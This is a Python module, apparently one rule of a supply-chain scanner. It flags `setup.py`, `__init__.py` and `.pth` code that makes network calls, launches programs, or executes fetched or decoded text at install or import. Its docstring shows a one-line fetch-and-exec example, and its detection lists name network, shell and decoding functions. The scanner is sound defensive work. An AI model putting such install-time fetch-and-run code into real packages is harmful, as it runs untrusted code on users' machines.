"""A package runs commands, uses the network or executes decoded text while it is installed.

## What

`setup.py` as a whole, and in a package's `__init__.py` what runs on import: calls that fetch from
the network, start other programs, or execute text that was fetched or decoded. `.pth` files whose
lines start with `import`, which Python runs at every start. Running a local file's text for the
version number, as many `setup.py` do, is not reported.

## Why bad

Installing or importing is enough to run it, before anyone has looked; most malicious packages work
this way.

## Example

    exec(urllib.request.urlopen("https://example.org/boot.py").read())

## Instead

Declare the build in `pyproject.toml`, ship what is needed in the package, and fetch data in a
function the user calls, with a digest.
"""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator
from typing import Final

from redqubit.scan.finding import Severity
from redqubit.scan.supply.hit import Hit, Report, Unread

ID: Final = "DEP-05"
NAME: Final = "Code at install or import"
SEVERITY: Final[Severity] = "medium"
CWE: Final = (506, 829)
FRAMEWORKS: Final = ("*",)
ADVICE: Final = "move it into a function the user calls, or out of the package"
_NETWORK: Final = (
    "urllib.request.urlopen",
    "urllib.request.urlretrieve",
    "urllib.urlopen",
    "urllib2.urlopen",
    "http.client.HTTPConnection",
    "http.client.HTTPSConnection",
    "socket.create_connection",
    "socket.socket",
    "requests.get",
    "requests.post",
    "requests.put",
    "requests.request",
    "httpx.get",
    "httpx.post",
    "httpx.request",
    "ftplib.FTP",
    "smtplib.SMTP",
)
_PROGRAMS: Final = (
    "os.system",
    "os.popen",
    "os.startfile",
    "subprocess.Popen",
    "subprocess.call",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.getoutput",
    "subprocess.run",
    "pty.spawn",
)
_FAMILIES: Final = ("os.exec", "os.spawn", "os.posix_spawn")
_DECODERS: Final = (
    "base64.b64decode",
    "base64.b85decode",
    "base64.b32decode",
    "base64.decodebytes",
    "binascii.unhexlify",
    "bytes.fromhex",
    "codecs.decode",
    "lzma.decompress",
    "marshal.loads",
    "pickle.loads",
    "zlib.decompress",
)
_RUNNERS: Final = frozenset({"exec", "eval", "builtins.exec", "builtins.eval"})
_FUNCTIONS: Final = (ast.FunctionDef, ast.AsyncFunctionDef, ast.Lambda)
_BUILD: Final = frozenset(
    [
        "cmake",
        "git",
        "make",
        "ninja",
        "gcc",
        "g++",
        "cc",
        "c++",
        "clang",
        "nvcc",
        "pkg-config",
        "llvm-config",
        "rustc",
        "cargo",
        "sw_vers",
        "xcrun",
        "xcode-select",
        "ldconfig",
        "uname",
    ]
)


def check(text: str, name: str, *, packaged: bool = False) -> Iterator[Report]:
    """Report what ``setup.py`` or ``__init__.py`` would run.

    Parameters
    ----------
    text, name
        The file's text and its own name.
    packaged
        Whether it lies beside an ``__init__.py``.
    """
    try:
        tree = ast.parse(text)
    except (SyntaxError, ValueError, RecursionError, MemoryError) as error:
        yield Unread(f"not Python: {str(error).splitlines()[0][:80] if str(error) else error!r}")
        return
    installing = name == "setup.py"
    if packaged and installing and not _sets_up(tree):
        return  # a module of a package, which no installer runs
    when = "while it is installed" if installing else "when it is imported"
    look = _Look(tree)
    for call in look.calls(everywhere=installing):
        told = look.judge(call, installing)
        if told is not None:
            severity, what = told
            yield Hit(
                ID,
                severity,
                f"{name} {what} {when}",
                key=ast.unparse(call.func)[:80],
                line=call.lineno,
                column=call.col_offset + 1,
                end_column=(call.end_col_offset or 0) + 1
                if call.end_lineno == call.lineno
                else None,
            )


def pth(text: str, name: str) -> Iterator[Report]:
    """Report lines of a path file that Python would execute at every start."""
    for number, line in enumerate(text.splitlines(), 1):
        if line.startswith(("import ", "import\t")):
            yield Hit(
                ID,
                "high",
                f"{name} has a line of code that Python runs at every start",
                key=" ".join(line.split())[:80],
                line=number,
            )


def _sets_up(tree: ast.Module) -> bool:
    """Whether a file called ``setup.py`` is one that installers run."""
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            called = node.func.attr if isinstance(node.func, ast.Attribute) else ""
            called = node.func.id if isinstance(node.func, ast.Name) else called
            if called == "setup":
                return True
        elif isinstance(node, ast.Import | ast.ImportFrom):
            names = [alias.name for alias in node.names]
            names += [node.module or ""] if isinstance(node, ast.ImportFrom) else []
            if any(re.match(r"(?:setuptools|distutils|skbuild)\b", item) for item in names):
                return True
    return False


class _Look:
    def __init__(self, tree: ast.Module) -> None:
        self.tree = tree
        self.names: dict[str, str] = {}
        self.texts: dict[str, ast.expr] = {}
        for node in ast.walk(tree):
            if isinstance(node, ast.Import):
                for alias in node.names:
                    bound = alias.asname or alias.name.partition(".")[0]
                    self.names[bound] = alias.name if alias.asname else bound
            elif isinstance(node, ast.ImportFrom) and node.module and not node.level:
                for alias in node.names:
                    self.names[alias.asname or alias.name] = f"{node.module}.{alias.name}"
            elif isinstance(node, ast.Assign) and isinstance(node.targets[0], ast.Name):
                self.texts[node.targets[0].id] = node.value

    def calls(self, *, everywhere: bool) -> Iterator[ast.Call]:
        """Yield calls that run: all, or those outside functions and in functions called there."""
        pending: list[ast.AST] = [self.tree]
        defined = {
            node.name: node
            for node in self.tree.body
            if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef)
        }
        while pending:
            node = pending.pop()
            if isinstance(node, _FUNCTIONS) and not everywhere:
                continue
            if _guarded(node):
                continue
            if isinstance(node, ast.Call):
                yield node
                if isinstance(node.func, ast.Name) and not everywhere:
                    made = defined.pop(node.func.id, None)
                    pending.extend(made.body if made else ())
            pending.extend(ast.iter_child_nodes(node))

    def name(self, node: ast.AST) -> str:
        parts = []
        while isinstance(node, ast.Attribute):
            parts.append(node.attr)
            node = node.value
        if not isinstance(node, ast.Name):
            return ""
        return ".".join([self.names.get(node.id, node.id), *reversed(parts)])

    def judge(self, call: ast.Call, installing: bool) -> tuple[Severity, str] | None:
        name = self.name(call.func)
        if name in _RUNNERS and call.args:
            source = self.source(call.args[0], 4)
            return ("critical", f"executes text that was {source}") if source else None
        if name in _NETWORK:
            return "medium", f"uses the network ({name})"
        if name in _PROGRAMS or name.startswith(_FAMILIES):
            if installing and _builds(call):
                return None
            return ("low" if installing else "medium"), f"starts another program ({name})"
        return None

    def source(self, node: ast.expr, depth: int) -> str:
        """Return where executed text comes from, if it is fetched or decoded."""
        for part in ast.walk(node):
            name = self.name(part.func) if isinstance(part, ast.Call) else ""
            if name in _NETWORK:
                return "fetched"
            if name in _DECODERS:
                return "decoded"
            if isinstance(part, ast.Name) and depth and part.id in self.texts:
                found = self.source(self.texts[part.id], depth - 1)
                if found:
                    return found
        return ""


def _guarded(node: ast.AST) -> bool:
    """Whether a block is for type checkers or for running the file as a program."""
    if not isinstance(node, ast.If):
        return False
    text = ast.unparse(node.test)
    return text.endswith("TYPE_CHECKING") or text in (
        "__name__ == '__main__'",
        "'__main__' == __name__",
    )


def _builds(call: ast.Call) -> bool:
    """Whether the program is one of those that build or describe native code."""
    first = call.args[0] if call.args else None
    if isinstance(first, ast.List | ast.Tuple) and first.elts:
        first = first.elts[0]
    if not isinstance(first, ast.Constant) or not isinstance(first.value, str):
        return False
    return first.value.split()[0] in _BUILD if first.value.split() else False
